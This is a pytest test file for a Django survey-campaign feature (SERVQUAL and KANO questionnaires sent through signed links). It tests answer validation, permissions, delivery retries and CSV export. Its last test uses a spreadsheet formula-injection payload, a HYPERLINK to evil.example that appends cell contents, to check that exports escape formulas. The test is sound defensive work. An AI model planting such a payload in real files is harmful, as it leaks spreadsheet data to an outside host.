"""SERVQUAL and KANO campaigns: created and sent by staff, answered by customers through
a signed link, analysed with the same pure cores as the CSV files."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from datetime import timedelta

import pytest
from django.core import mail
from django.test import Client
from django.utils import timezone
from pytest_django.fixtures import DjangoCaptureOnCommitCallbacks

from kefu.core.errors import DomainError
from kefu.core.models import User
from kefu.quality import analysis, kano, servqual
from kefu.quality.campaign_clocks import campaign_resend
from kefu.quality.models_campaigns import CampaignAnswer, CampaignInvitation, SurveyCampaign
from kefu.quality.services import campaigns
from kefu.quality.services.surveys import LinkState
from tests.cases.builders import make_contact

pytestmark = pytest.mark.django_db

Bearer = Callable[[User], dict[str, str]]
FEATURES = [
    {
        "name": "self-booking",
        "functional_zh": "如果您可以自己在网上预约上门时间，您觉得如何？",
        "functional_en": "If you could book the visit time online yourself, how would you feel?",
        "dysfunctional_zh": "如果您不能自己在网上预约上门时间，您觉得如何？",
        "dysfunctional_en": "If you could not book the visit time online, how would you feel?",
    },
    {
        "name": "arrival-sms",
        "functional_zh": "如果师傅出发时短信通知您，您觉得如何？",
        "functional_en": "If we texted you when the technician sets off, how would you feel?",
        "dysfunctional_zh": "如果师傅出发时不通知您，您觉得如何？",
        "dysfunctional_en": "If we did not say when the technician sets off, how would you feel?",
    },
]


def _create(client: Client, headers: dict[str, str], **body: object) -> dict[str, object]:
    closes = (timezone.now() + timedelta(days=14)).isoformat()
    response = client.post(
        "/api/v1/quality/campaigns",
        {"closes_at": closes, **body},
        content_type="application/json",
        headers=headers,
    )
    assert response.status_code == 201, response.content
    data: dict[str, object] = response.json()
    return data


def _invite_and_send(
    client: Client,
    headers: dict[str, str],
    campaign_id: object,
    capture: DjangoCaptureOnCommitCallbacks,
) -> list[str]:
    with capture() as callbacks:
        response = client.post(
            f"/api/v1/quality/campaigns/{campaign_id}/invite",
            {},
            content_type="application/json",
            headers=headers,
        )
    assert response.status_code == 200
    assert len(callbacks) == 1  # the send is queued on commit
    campaigns.campaign_send_due(at=timezone.now())
    found = [re.search(r"/quality/c/([^/]+)/", str(m.body)) for m in mail.outbox]
    return [m.group(1) for m in found if m is not None]


def _servqual_post(seed: int, points: tuple[int, ...] = (20, 25, 20, 15, 20)) -> dict[str, str]:
    data = {}
    for item in servqual.ITEMS:
        data[f"e{item}"] = str(5 + (item + seed) % 3)
        data[f"p{item}"] = str(1 + (item * seed) % 7)
    for dimension, value in zip(servqual.Dimension, points, strict=True):
        data[f"w_{dimension.value}"] = str(value)
    return data


def test_servqual_campaign_answered_by_two_contacts_matches_the_pure_core(
    manager: User,
    bearer_for: Bearer,
    django_capture_on_commit_callbacks: DjangoCaptureOnCommitCallbacks,
) -> None:
    api = Client()
    headers = bearer_for(manager)
    created = _create(api, headers, kind="servqual", name="2026 年度服务质量", instrument=1988)
    make_contact(name="李娜", language="zh-hans")
    make_contact(name="Anna Smith", language="en")
    tokens = _invite_and_send(api, headers, created["id"], django_capture_on_commit_callbacks)
    assert len(tokens) == 2
    assert {m.to[0] for m in mail.outbox} == {
        c.contact.email for c in CampaignInvitation.objects.all()
    }
    english = next(m for m in mail.outbox if "Anna" in m.body)
    assert "A short survey" in english.subject
    public = Client()
    page = public.get(f"/quality/c/{tokens[0]}/?lang=en")
    assert page.status_code == 200
    assert page.content.count(b'<fieldset class="card item">') == 22
    posts = [_servqual_post(2), _servqual_post(3, (10, 40, 30, 10, 10))]
    for token, post in zip(tokens, posts, strict=True):
        response = public.post(f"/quality/c/{token}/", post)
        assert response.status_code == 200
        assert b"Thank you" in response.content or "谢谢".encode() in response.content
    results = api.get(f"/api/v1/quality/campaigns/{created['id']}/results", headers=headers).json()
    assert results["answered"] == 2
    assert results["response_rate"] == 1.0
    # The same answers through the pure core.
    # (A token names its invitation; signing again would give another timestamp once a
    # second has passed, so the emailed tokens are resolved, not re-made.)
    ratings, weights = [], {}
    for token, post in zip(tokens, posts, strict=True):
        state, invitation = campaigns.invitation_for_token(token, at=timezone.now())
        assert state == LinkState.USED
        assert invitation is not None
        who = f"r{invitation.pk}"
        ratings += [
            servqual.Rating(who, n, int(post[f"e{n}"]), int(post[f"p{n}"])) for n in servqual.ITEMS
        ]
        weights[who] = {d: float(post[f"w_{d.value}"]) for d in servqual.Dimension}
    expected = servqual.analyse(ratings, weights=weights, instrument=1988).to_json()
    assert results["result"] == expected
    assert results["result"]["weighted"] == pytest.approx(expected["weighted"])
    # The campaign page shows the radar; the CSV exports re-run through the CLI reader.
    staff = Client()
    staff.force_login(manager)
    html = staff.get(f"/quality/campaigns/{created['id']}/").content.decode()
    assert "<svg" in html
    assert "100%" in html
    answers = staff.get(f"/quality/campaigns/{created['id']}/answers.csv").content.decode()
    points = staff.get(f"/quality/campaigns/{created['id']}/weights.csv").content.decode()
    assert answers.splitlines()[0] == "respondent,item,expectation,perception"
    assert points.splitlines()[0] == "respondent,dimension,points"
    again = analysis.servqual_analyse(answers, weights_text=points, instrument=1988)
    assert again.errors == []
    assert again.result == expected


def test_kano_campaign_matches_the_pure_core_and_speaks_chinese(
    manager: User,
    bearer_for: Bearer,
    django_capture_on_commit_callbacks: DjangoCaptureOnCommitCallbacks,
) -> None:
    api = Client()
    headers = bearer_for(manager)
    created = _create(api, headers, kind="kano", name="新功能调研", features=FEATURES)
    assert created["features"] == ["self-booking", "arrival-sms"]
    make_contact(name="王芳")
    make_contact(name="赵强")
    tokens = _invite_and_send(api, headers, created["id"], django_capture_on_commit_callbacks)
    features = list(SurveyCampaign.objects.get().features.order_by("position"))
    public = Client()
    page = public.get(f"/quality/c/{tokens[0]}/").content.decode()
    assert FEATURES[0]["functional_zh"] in page
    assert "理所当然" in page
    assert "能忍受" in page
    english = public.get(f"/quality/c/{tokens[0]}/?lang=en").content.decode()
    assert FEATURES[0]["functional_en"] in english
    assert 'lang="en"' in english
    chosen = [((1, 5), (1, 3)), ((2, 5), (1, 5))]
    for token, pairs in zip(tokens, chosen, strict=True):
        post = {}
        for feature, (f, d) in zip(features, pairs, strict=True):
            post[f"f{feature.pk}"], post[f"d{feature.pk}"] = str(f), str(d)
        assert public.post(f"/quality/c/{token}/", post).status_code == 200
    results = api.get(f"/api/v1/quality/campaigns/{created['id']}/results", headers=headers).json()
    answers = [
        kano.KanoAnswer(str(n), feature.name, kano.Answer(f), kano.Answer(d))
        for n, pairs in enumerate(chosen)
        for feature, (f, d) in zip(features, pairs, strict=True)
    ]
    expected = {name: r.to_json() for name, r in kano.analyse(answers).items()}
    assert results["result"] == expected
    assert results["result"]["self-booking"]["category"] in {"O", "M"}
    staff = Client()
    staff.force_login(manager)
    html = staff.get(f"/quality/campaigns/{created['id']}/").content.decode()
    assert "<svg" in html
    assert "arrival-sms" in html
    exported = staff.get(f"/quality/campaigns/{created['id']}/answers.csv").content.decode()
    assert exported.splitlines()[0] == "respondent,feature,functional,dysfunctional"
    assert analysis.kano_analyse(exported).result == expected


def _servqual_campaign(manager: User) -> SurveyCampaign:
    now = timezone.now()
    campaign = campaigns.campaign_create(
        actor=manager, kind="servqual", name="Q4", closes_at=now + timedelta(days=3), at=now
    )
    make_contact(name="李娜")
    campaigns.campaign_invite(actor=manager, campaign=campaign, at=now)
    return campaign


def test_forged_expired_and_used_links_record_nothing(manager: User) -> None:
    campaign = _servqual_campaign(manager)
    invitation = CampaignInvitation.objects.get()
    token = campaigns.invitation_token(invitation)
    public = Client()
    assert public.get("/quality/c/bogus:sig/").status_code == 404
    assert public.post(f"/quality/c/{token[:-2]}xx/", _servqual_post(1)).status_code == 404
    assert public.post(f"/quality/c/{token}/", _servqual_post(1)).status_code == 200
    used = public.post(f"/quality/c/{token}/", _servqual_post(2))
    assert used.status_code == 409
    assert CampaignAnswer.objects.count() == 22
    assert CampaignAnswer.objects.get(item=1).expectation == int(_servqual_post(1)["e1"])
    # A closed campaign's links are expired.
    make_contact(name="周杰")
    campaigns.campaign_invite(actor=manager, campaign=campaign, at=timezone.now())
    other = CampaignInvitation.objects.filter(answered_at__isnull=True).get()
    campaigns.campaign_close(actor=manager, campaign=campaign, at=timezone.now())
    closed = public.post(f"/quality/c/{campaigns.invitation_token(other)}/", _servqual_post(1))
    assert closed.status_code == 410
    assert CampaignAnswer.objects.count() == 22
    other.refresh_from_db()
    assert other.answered_at is None


def test_partial_out_of_range_and_points_not_100_give_the_form_back(manager: User) -> None:
    _servqual_campaign(manager)
    token = campaigns.invitation_token(CampaignInvitation.objects.get())
    public = Client()
    partial = _servqual_post(1)
    del partial["p7"]
    response = public.post(f"/quality/c/{token}/?lang=en", partial)
    assert response.status_code == 422
    assert b"Please choose an answer." in response.content
    assert b'aria-invalid="true"' in response.content
    wrong = _servqual_post(1)
    wrong["e3"] = "8"
    response = public.post(f"/quality/c/{token}/?lang=en", wrong)
    assert response.status_code == 422
    assert b"from 1 to 7" in response.content
    short = _servqual_post(1, (20, 20, 20, 20, 10))
    response = public.post(f"/quality/c/{token}/?lang=en", short)
    assert response.status_code == 422
    assert b"add up to 90; they must add up to 100" in response.content
    # The answers given are kept in the form.
    assert b'name="w_tangibles" value="20"' in response.content
    assert not CampaignAnswer.objects.exists()
    assert CampaignInvitation.objects.get().answered_at is None
    # The service refuses the same on its own (the API of the page).
    with pytest.raises(DomainError):
        campaigns.campaign_answer_servqual(
            token=token, ratings={1: (1, 1)}, points={}, at=timezone.now()
        )


def test_permissions(agent: User, manager: User, bearer_for: Bearer) -> None:
    api = Client()
    refused = api.post(
        "/api/v1/quality/campaigns",
        {"kind": "servqual", "name": "x", "closes_at": timezone.now().isoformat()},
        content_type="application/json",
        headers=bearer_for(agent),
    )
    assert refused.status_code == 403
    campaign = _servqual_campaign(manager)
    for url in (f"/api/v1/quality/campaigns/{campaign.pk}/results",):
        assert api.get(url, headers=bearer_for(agent)).status_code == 403
    invite = api.post(
        f"/api/v1/quality/campaigns/{campaign.pk}/invite",
        {},
        content_type="application/json",
        headers=bearer_for(agent),
    )
    assert invite.status_code == 403
    page = Client()
    page.force_login(agent)
    assert page.get(f"/quality/campaigns/{campaign.pk}/").status_code == 403
    assert page.get("/quality/campaigns/").status_code == 403
    bad = api.post(
        "/api/v1/quality/campaigns",
        {
            "kind": "kano",
            "name": "no features",
            "closes_at": (timezone.now() + timedelta(days=1)).isoformat(),
        },
        content_type="application/json",
        headers=bearer_for(manager),
    )
    assert bad.status_code == 400
    assert bad.json()["code"] == "campaign_invalid"


def test_a_refused_delivery_leaves_the_invitation_unsent_and_the_clock_retries(
    manager: User, django_capture_on_commit_callbacks: DjangoCaptureOnCommitCallbacks
) -> None:
    now = timezone.now()
    campaign = campaigns.campaign_create(
        actor=manager, kind="servqual", name="Q4", closes_at=now + timedelta(days=3), at=now
    )
    # Reachable only by SMS, and no gateway is configured: a permanent refusal.
    make_contact(name="孙丽", email="", channels=["sms"])
    ok = make_contact(name="钱多")
    campaigns.campaign_invite(actor=manager, campaign=campaign, at=now)
    assert campaigns.campaign_send_due(at=now) == 1
    refused = CampaignInvitation.objects.exclude(contact=ok).get()
    assert refused.sent_at is None
    assert refused.last_error
    sent = CampaignInvitation.objects.get(contact=ok)
    assert sent.sent_at is not None
    assert sent.channel == "email"
    # Sent once: a second run sends nothing again.
    assert campaigns.campaign_send_due(at=now) == 0
    assert len(mail.outbox) == 1
    # A temporary failure is retried by the recurring job.
    CampaignInvitation.objects.filter(pk=refused.pk).update(attempts=1)
    with django_capture_on_commit_callbacks() as callbacks:
        campaign_resend(None, now)  # type: ignore[arg-type]
    assert len(callbacks) == 1


def test_demo_campaigns_load_once_and_analyse(manager: User) -> None:
    from kefu.quality.campaign_results import campaign_figures
    from kefu.quality.demo_campaigns import campaigns_load

    for n in range(20):
        make_contact(name=f"客户{n}")
    campaigns_load(at=timezone.now())
    campaigns_load(at=timezone.now())
    assert SurveyCampaign.objects.count() == 2
    for campaign in SurveyCampaign.objects.all():
        figures = campaign_figures(campaign)
        assert figures.answered == 15
        assert figures.result is not None
    servqual_result = campaign_figures(SurveyCampaign.objects.get(kind="servqual")).result
    assert servqual_result is not None
    assert servqual_result["weighted"] is not None


def test_answers_csv_is_formula_guarded_and_still_reads_back(
    manager: User,
    bearer_for: Bearer,
    django_capture_on_commit_callbacks: DjangoCaptureOnCommitCallbacks,
) -> None:
    api = Client()
    headers = bearer_for(manager)
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    feature = {**FEATURES[0], "name": hostile}
    created = _create(api, headers, kind="kano", name="注入测试", features=[feature])
    make_contact(name="王芳")
    (token,) = _invite_and_send(api, headers, created["id"], django_capture_on_commit_callbacks)
    (stored,) = SurveyCampaign.objects.get().features.all()
    assert (
        Client()
        .post(f"/quality/c/{token}/", {f"f{stored.pk}": "1", f"d{stored.pk}": "5"})
        .status_code
        == 200
    )
    staff = Client()
    staff.force_login(manager)

    exported = staff.get(f"/quality/campaigns/{created['id']}/answers.csv").content.decode()

    cells = next(iter(csv.reader(io.StringIO(exported.splitlines()[1]))))
    assert cells[1] == "'" + hostile
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    result = analysis.kano_analyse(exported).result
    assert result is not None
    assert list(result) == [hostile]
